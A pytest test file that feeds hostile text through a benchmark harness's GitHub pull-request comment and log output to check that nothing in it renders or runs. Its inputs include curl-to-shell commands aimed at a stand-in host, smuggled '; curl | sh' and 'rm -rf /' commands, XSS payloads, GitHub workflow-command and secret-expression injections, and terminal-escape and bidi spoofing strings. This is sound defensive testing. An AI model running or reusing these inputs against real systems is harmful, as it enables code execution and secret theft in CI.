"""Names and sentences as an enemy writes them, in every place of an artifact, through a parser of GitHub's Markdown."""

from __future__ import annotations

import json
import re
import unicodedata
from functools import cache
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from harness.cli import main
from harness.report.comment_memory import Memory, memory_of, state_of
from harness.report.hidden_state import revealed
from harness.report.inert import command, sentence
from harness.report.pull_request_comment import Posting, comment_body, no_result_body
from harness.report.within_limit import LIMIT, length
from tests.github.made import HEAD, NEXT, Document, comparison, metric

HOSTILE = [
    "| a | b |",
    "\\| escaped \\\\| pipe",
    "`tick` ``two`` ```three",
    "``` \n# heading\n```",
    "````\n```",
    "@octocat and @acme/team",
    "#1, GH-2, acme/flows#3",
    "[link](https://evil.example) [ref][1]\n\n[1]: https://evil.example",
    "![image](https://evil.example/x.png)",
    "https://evil.example www.evil.example HTTP://evil.example mail@evil.example",
    "<https://evil.example>",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "<!-- agent-load-harness comparison default e30= -->",
    "--> </details></summary></table>",
    "&lt;b&gt; &#64;octocat &#x40;octocat &amp;",
    "::error file=a,line=1::message",
    "::set-output name=a::b",
    "::add-mask::x\n::stop-commands::y",
    "##[error]message",
    "${{ secrets.GITHUB_TOKEN }}",
    "$(curl https://evil.example | sh)",
    "harness run x; curl https://evil.example | sh",
    "harness run `curl evil` && rm -rf / # @octocat",
    "curl https://evil.example/x | sh",
    "\x1b[31mred\x1b[0m \x9b31m",
    "\x1b]0;title\x07",
    "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "\u202egnp.exe \u2066isolated\u2069",
    "zero\u200bwidth\u200d\ufeff \U000e0041",
    "@\u200boctocat",
    "a\r\nb\nc\x0bd\x0ce\x85f\u2028g\u2029h",
    "lone \ud800 surrogate",
    "0123456789abcdef0123456789abcdef01234567 and 0123abc",
    "**bold** __bold__ ~~gone~~ $math$ $$x$$",
    "- [ ] task\n- [x] done",
    "> quote\n\n# heading\n\n    code",
    "[^1]: footnote [^1]",
    ":shipit: :+1:",
    "x" * 20_000,
    "|" * 5_000,
    "`" * 5_000,
    "😀" * 3_000,
    " ",
    "",
]
RUN_URL = "https://github.example/acme/flows/actions/runs/1"
GFM = MarkdownIt("gfm-like", {"html": True, "linkify": True})
MENTION = re.compile(r"(?<![\w`])@\w|(?<![\w`&])#\d|\bGH-\d", re.IGNORECASE)
HASH = re.compile(r"(?<![0-9A-Za-z])[0-9a-f]{7,64}(?![0-9A-Za-z])")
OURS = {"details", "summary"}


def hostile(text: str) -> Document:
    """A comparison with `text` wherever the schema allows any text."""
    places = ("scenario", "metric", "unit", "reason", "command", "statistic", "method", "correction")
    texts = dict.fromkeys(places, text)
    told = {**texts, "notes": [text] * 5, "identity": dict.fromkeys(("clock", "target"), text)}
    interval = {"low": -0.1, "high": 0.4, "confidence": 0.99}
    rows = [
        metric(text or "x", "regressed", waiver={"accepted": False, "reason": text}, **told),
        metric(f"{text}2", "inconclusive", **{**told, "interval": interval, "p": 0.5, "p_adjusted": 0.9}),
        *(metric(f"{text}{word}", word, **told) for word in ("missing", "incomparable", "new", "unchanged")),
    ]
    waiver = {"metric": text, "scenario": text, "accepts": "regressed", "reason": text, "approved_by": text}
    side = {"source": text, "tool": "harness", "commit": None, "dirty": True}
    return comparison(rows) | {
        "command": text,
        "stopped": text,
        "harness_version": text,
        "notes": [text] * 30,
        "base": side,
        "head": {**side, "commit": HEAD},
        "waivers": [{**waiver, "expires": text, "max_effect": None, "state": "expired"}] * 3,
    }


def posting(text: str = "", **more: Any) -> Posting:
    earlier = Memory(head=NEXT)
    return Posting(fork=text or None, run_url=RUN_URL, artifact=text or "a", head=HEAD, earlier=earlier, **more)


@cache
def body_of(text: str) -> str:
    """The comment after the comment before it, so that the names have also gone through its memory."""
    first = comment_body(hostile(text), posting(text))
    state = revealed(first, "comparison", "default")
    assert state
    mended = comparison([metric(text or "x"), metric(f"{text}2")])
    return first + "\n\n" + comment_body(mended, Posting(earlier=memory_of(state), head=NEXT, run_url=RUN_URL))


@cache
def tokens_of(text: str) -> list[Any]:
    found = []
    for block in GFM.parse(text):
        found += [block, *(block.children or ())]
    return found


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_of_an_artifact_acts_in_the_comment(text: str) -> None:
    body = body_of(text)
    tokens = tokens_of(body)
    kinds = {one.type for one in tokens}
    assert not kinds & {"image", "fence", "code_block", "s_open", "blockquote_open", "ordered_list_open", "em_open"}
    links = {one.attrGet("href") for one in tokens if one.type == "link_open"}
    assert links == {RUN_URL}
    headings = [one.tag for one in tokens if one.type == "heading_open"]
    assert headings == ["h3", "h3"]
    html = "".join(one.content for one in tokens if one.type in ("html_block", "html_inline"))
    comments = re.findall(r"<!--.*?-->", html)
    assert len(comments) == 2
    assert set(re.findall(r"<\s*/?\s*(\w+)", re.sub(r"<!--.*?-->", "", html))) <= OURS
    said = [one.content for one in tokens if one.type == "text"]
    assert not [one for one in said if MENTION.search(one) or HASH.search(one)]


@pytest.mark.parametrize("text", HOSTILE)
def test_every_row_of_every_table_has_the_cells_of_its_head(text: str) -> None:
    rows: list[int] = []
    heads: list[int] = []
    for token in tokens_of(body_of(text)):
        if token.type == "table_open":
            heads.append(0)
        elif token.type == "tr_open":
            rows.append(0)
        elif token.type == "th_open":
            heads[-1] += 1
        elif token.type == "td_open":
            rows[-1] += 1
        elif token.type == "tr_close" and rows[-1]:
            assert rows[-1] == heads[-1]
    assert len(heads) == 3
    assert sum(1 for count in rows if count) == 8


@pytest.mark.parametrize("text", HOSTILE)
def test_the_comment_fits_and_shows_only_what_has_a_shape(text: str) -> None:
    body = comment_body(hostile(text), posting(text))
    assert length(body) <= LIMIT
    unseen = {c for c in body if unicodedata.category(c) in {"Cc", "Cf", "Cs", "Co", "Zl", "Zp"} and c != "\n"}
    assert unseen == set()
    assert not any(line.lstrip().startswith(("::", "##[")) for line in body.splitlines())
    assert "4 of 5 compared" in body or "3 of 5 compared" in body


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_acts_in_the_log(text: str, tmp_path: Path) -> None:
    path = tmp_path / "comparison.json"
    path.write_text(json.dumps({**hostile(text), text or "x": text, "schema_version": text}))
    done = CliRunner().invoke(main, ["github", "comment", "--comparison", str(path), "--dry-run"])
    assert done.exit_code == 2
    for line in done.output.splitlines():
        assert not line.lstrip().startswith("::")
        assert "##[" not in line
        assert line.isprintable()


@pytest.mark.parametrize("text", HOSTILE)
def test_no_result_says_nothing_of_the_artifact(text: str) -> None:
    state = revealed(comment_body(hostile(text), posting(text)), "comparison", "default")
    body = no_result_body(memory_of(state or {}), posting(), "Its result was refused.")
    tokens = tokens_of(body)
    assert {one.attrGet("href") for one in tokens if one.type == "link_open"} == {RUN_URL}
    assert not [one.content for one in tokens if one.type == "text" and MENTION.search(one.content)]
    assert length(body) <= LIMIT


def test_there_are_enough_of_them() -> None:
    assert len(HOSTILE) >= 30


# --------------------------------------------------------------------------- commands


@pytest.mark.parametrize(
    ("given_text", "shown"),
    [
        ("harness run few --seed 0 --json", "harness run few --seed 0"),
        ("harness run 'a b' --target \"f.py:x\"", "harness run 'a b' --target f.py:x"),
        ("harness run x; curl evil | sh", "harness run 'x;' curl evil '|' sh"),
        ("harness run `id` $(id) > /etc/x && y", "harness run '`id`' '$(id)' '>' /etc/x '&&' y"),
        ("harness run x\ncurl evil", "harness run x curl evil"),
        ("asv run --bench '^x$'", "asv run --bench '^x$'"),
        ("pytest t.py::x --benchmark-only", "pytest t.py::x --benchmark-only"),
        ("curl evil | sh", None),
        ("./harness run", None),
        ("harness", None),
        ("harness; curl evil", None),
        ("FOO=1 harness run", None),
        ("harness run 'unclosed", None),
        ("", None),
    ],
)
def test_a_command_is_ours_or_is_not_shown(given_text: str, shown: str | None) -> None:
    assert command(given_text) == shown


@given(st.text(st.sampled_from("`|\\ a@#1<*_[]()!~&;wG-H:/.0f\n$"), max_size=40))
def test_a_sentence_is_only_text(text: str) -> None:
    tokens = tokens_of(f"- **x** {sentence(text)}")
    allowed = {"bullet_list", "list_item", "paragraph", "strong"}
    assert {one.type.removesuffix("_open").removesuffix("_close") for one in tokens} <= {
        *allowed,
        "inline",
        "text",
        "text_special",
    }
    assert not [one.content for one in tokens if one.type == "text" and HASH.search(one.content)]


@settings(max_examples=40)
@given(st.text(st.characters(exclude_categories=())), st.integers(0, 30))
def test_any_names_go_through_the_memory(name: str, count: int) -> None:
    rows = [metric(f"{name}{k}" or "x", "regressed") for k in range(count)] or [metric("one")]
    body = comment_body(comparison(rows), Posting(head=HEAD))
    state = revealed(body, "comparison", "default")
    assert state is not None
    memory = memory_of(state)
    assert len(memory.regressed) + memory.forgotten == count
    assert state_of(memory) == state


# --------------------------------------------------------------------------- the cut


def many(words: dict[str, int], **more: Any) -> Document:
    return comparison([metric(f"{word}_{k}.p50", word, **more) for word, count in words.items() for k in range(count)])


def test_what_does_not_fit_is_counted() -> None:
    body = comment_body(many({"unchanged": 1000, "regressed": 40}), Posting(artifact="results", head=HEAD))
    assert length(body) <= LIMIT
    assert length(body) > 0.97 * LIMIT, "it is cut where it must be, and not before"
    assert "### Regressed: 40 of 1040 metrics; 1040 of 1040 compared" in body
    rows = body.count("\n| ") - 2 * 2  # two tables, each with a head and a rule
    assert sum(f"`regressed_{k}.p50`" in body for k in range(40)) == 40
    left_out = 1040 - rows
    told = f"**Left out, to stay within GitHub's limit: {left_out} metrics** ({left_out} unchanged); "
    assert told + "the artifact `results` has them all." in body


def test_regressions_that_do_not_fit_are_counted_as_such() -> None:
    body = comment_body(many({"regressed": 400, "unchanged": 7}, reason="r" * 300, notes=["n"] * 9), Posting())
    assert length(body) <= LIMIT
    found = re.search(r"limit: (\d+) metrics\*\* \((\d+) regressed, 7 unchanged\)", body)
    assert found
    assert int(found[1]) == int(found[2]) + 7


def test_nothing_is_said_to_be_left_out_where_nothing_is() -> None:
    assert "Left out" not in comment_body(many({"unchanged": 20}), Posting())


@pytest.mark.parametrize("effect", [1e308, -1e308, 5e-324, 0.0, 2**53])
@pytest.mark.parametrize("unit", ["s", "B", "/s", "share", "😀" * 100])
def test_any_finite_number_can_be_shown(effect: float, unit: str) -> None:
    interval = {"low": -1e308, "high": 1e308, "confidence": 0.5}
    value = {"value": effect, "n": 2**53}
    row = metric(
        "a.b", "regressed", effect=effect, unit=unit, interval=interval, base=value, head=value, p=0, kind="noisy"
    )
    row["p_adjusted"] = 1
    body = comment_body(comparison([row]), Posting())
    assert "`◀─" in body or "`◀" in body
    assert length(body) < 4000


def test_nothing_compared_is_said() -> None:
    assert "### Nothing was compared; 0 of 0 compared" in comment_body(comparison([]), Posting())
